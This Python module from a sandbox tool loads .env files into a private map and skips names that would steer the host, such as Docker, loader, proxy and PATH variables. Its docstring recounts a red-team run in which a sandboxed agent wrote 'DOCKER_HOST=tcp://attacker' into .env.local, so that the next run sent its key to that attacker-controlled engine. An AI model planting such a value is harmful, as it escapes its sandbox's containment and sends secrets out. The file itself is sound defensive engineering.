"""Reading `envPath` files into a private map, the way Perstack does (`apps/perstack/src/lib/get-env.ts`).

Why a private map: secrets from `.env` files are forwarded by name into the sandbox; writing them into
`os.environ` would also hand them to every subprocess this tool starts (docker, compose, CLI agents).
So files are parsed with python-dotenv's `dotenv_values` and nothing here reads or writes `os.environ`,
not even for `${VAR}` interpolation (turned off: Perstack's dotenv does not interpolate either).

Decision on bad names: a line whose name is not a valid environment variable name (`FOO-BAR=1`,
`npm_config_//registry/:_authToken=...`) is skipped with a *warning*, not an error. Such names cannot be
passed to a container anyway, and real `.env` files carry them for other tools; refusing to run because
of them would punish an unrelated line. Undecodable or unreadable files are errors.

Decision on names that configure this tool itself (`DOCKER_HOST`, `SANDBOX_USER`, `XDG_CACHE_HOME`, `HOME`,
`PATH`, proxy and CA variables, loader and interpreter hooks): never taken from an env file, skipped with a
warning. An env file is data that may sit in the workspace a sandboxed Expert writes (a red-team run wrote
`DOCKER_HOST=tcp://attacker` to `.env.local`, and the next run sent its stdin payload, the key included, to
that engine); what steers the host comes from the process environment or the command line only.
"""

from __future__ import annotations

import logging
from collections.abc import Sequence
from pathlib import Path

from dotenv import dotenv_values

from sandbox._errors import ConfigError, ConfigIssue

from ._issues import show
from ._validators import validate_env_name

__all__ = ["HOST_ONLY_PREFIXES", "HOST_ONLY_VARS", "is_host_only", "load_env_files"]

_log = logging.getLogger("sandbox.config")

HOST_ONLY_PREFIXES = (
    "DOCKER_",
    "SANDBOX_",
    "COMPOSE_",
    "BUILDKIT_",
    "XDG_",
    "LD_",
    "DYLD_",
    "PYTHON",
    "NODE_",
    "NPM_CONFIG_",
    "GIT_",
)
"""Prefixes of variables that configure the host's tools: the Docker client and Compose, this tool, the
user's directories, the dynamic loader, Python, Node/npm and git (hooks, config paths)."""
HOST_ONLY_VARS = frozenset(
    {
        "HOME",
        "PATH",
        "USER",
        "LOGNAME",
        "SHELL",
        "TMPDIR",
        "TMP",
        "TEMP",
        "PWD",
        "IFS",
        "ENV",
        "BASH_ENV",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "NO_PROXY",
        "ALL_PROXY",
        "FTP_PROXY",
        "SSL_CERT_FILE",
        "SSL_CERT_DIR",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
    }
)
"""Exact names (compared upper-cased, so `https_proxy` is one of them too)."""


def is_host_only(name: str) -> bool:
    """Whether `name` configures the host tool itself and so is never read from an env file."""
    upper = name.upper()
    return upper in HOST_ONLY_VARS or upper.startswith(HOST_ONLY_PREFIXES)


def load_env_files(
    paths: Sequence[str],
    base_dir: Path,
    *,
    warnings: list[ConfigIssue] | None = None,
) -> dict[str, str]:
    """Merge the env files at `paths` (relative ones resolved against `base_dir`); later files win.

    Missing files are skipped silently (Perstack's default `[".env", ".env.local"]` rarely both exist).
    Keys without a value (`FOO` alone on a line) are skipped. Names that are not valid environment
    variable names, and names that configure the host tool (`is_host_only`), are skipped and reported as
    warnings, appended to `warnings` when given, else logged.
    Raises ConfigError for a file that exists but cannot be read as UTF-8 text.
    """
    merged: dict[str, str] = {}
    errors: list[ConfigIssue] = []
    for entry in paths:
        path = Path(entry).expanduser()
        if not path.is_absolute():
            path = base_dir / path
        if not path.exists():
            continue
        label = str(path)
        if not path.is_file():
            errors.append(ConfigIssue(file=label, path="", message="is not a regular file"))
            continue
        try:
            values = dotenv_values(path, interpolate=False, encoding="utf-8")
        except (OSError, UnicodeDecodeError) as exc:
            errors.append(ConfigIssue(file=label, path="", message=f"cannot be read: {exc}"))
            continue
        for name, value in values.items():
            problem = None
            try:
                validate_env_name(name)
            except ValueError:
                problem = "skipped: not a valid environment variable name"
            if problem is None and is_host_only(name):
                problem = (
                    "skipped: it configures the host tool itself, which an env file may not do "
                    "(set it in the environment instead)"
                )
            if problem is not None:
                bad = ConfigIssue(file=label, path=show(name), message=problem, severity="warning")
                if warnings is not None:
                    warnings.append(bad)
                else:
                    _log.warning("%s", bad)
                continue
            if value is not None:
                merged[name] = value
    if errors:
        raise ConfigError(errors)
    return merged
